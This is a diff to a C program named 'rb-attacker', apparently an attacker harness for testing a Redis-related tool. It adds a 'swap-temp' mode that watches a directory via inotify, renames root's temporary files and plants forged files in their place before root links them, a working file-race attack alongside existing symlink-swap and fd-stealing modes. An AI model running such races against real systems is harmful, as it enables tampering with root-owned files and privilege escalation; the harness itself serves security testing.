@@ -35,6 +35,11 @@
  *       the AOF rewrite child of any redis-server working there writes
  *       through them.
  *
+ *   swap-temp READY DIR
+ *       Each time a temporary file of root's (.tmp-*) is created in DIR (a
+ *       folder of ours), rename it away and put a file of ours, holding
+ *       FORGED, under its name, before root links it into place.
+ *
  *   swap-dump READY DATA TARGET
  *       Each time Redis renames a fresh dump.rdb into place (IN_MOVED_TO),
  *       replace it at once (rename of a prepared symlink) with a symlink to
@@ -447,6 +452,39 @@ static int swap_dump(char **a)
             say("swapped %s for a symlink to %s (%d)", DUMP, target, ++swaps);
         }
         prepare_dump_link(target);
+    }
+    return 0;
+}
+
+/* ------------------------------------------------------------------------ */
+
+/* The forged file put in place of a temporary file of root's. */
+#define FORGED "forged by the account\n"
+
+static int swap_temp(char **a)
+{
+    in_dir(a[0]);
+    struct events *e = events_new();
+    watch(e, ".", IN_CREATE);
+    armed(a[-1]);
+    int swaps = 0;
+    for (;;) {
+        struct inotify_event *ev = next_event(e);
+        struct stat st;
+        if (!ev->len || !starts_with(ev->name, ".tmp-") || lstat(ev->name, &st) != 0 ||
+            st.st_uid == getuid())
+            continue; /* not root's, or our own put in place */
+        char stolen[64];
+        snprintf(stolen, sizeof stolen, ".stolen-%d", swaps);
+        if (rename(ev->name, stolen) != 0) {
+            say("could not take %s: %s", ev->name, strerror(errno));
+            continue;
+        }
+        int fd = open(ev->name, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0644);
+        if (fd < 0 || write(fd, FORGED, strlen(FORGED)) < 0)
+            die("put a forged file in its place");
+        close(fd);
+        say("swapped %s for a file of ours (%d)", ev->name, ++swaps);
     }
     return 0;
 }
@@ -913,6 +951,7 @@ int main(int argc, char **argv)
         {"lease", 1, lease},
         {"replant-dump", 1, replant_dump},
         {"steal-fds", 0, steal_fds},
+        {"swap-temp", 1, swap_temp},
     };
     for (size_t i = 0; argc >= 3 && i < sizeof modes / sizeof modes[0]; i++) {
         if (strcmp(argv[1], modes[i].name) != 0)
@@ -924,6 +963,6 @@ int main(int argc, char **argv)
         /* argv[2] is READY, found as a[-1] by the modes. */
         return modes[i].run(argv + 3);
     }
-    fprintf(stderr, "usage: rb-attacker swap-workdir|aof-dir|plant-rewrite|swap-dump|aof-build|lease|replant-dump|steal-fds READY DATA_DIR ARGS...\n");
+    fprintf(stderr, "usage: rb-attacker swap-workdir|aof-dir|plant-rewrite|swap-dump|aof-build|lease|replant-dump|steal-fds|swap-temp READY DATA_DIR ARGS...\n");
     return 2;
 }
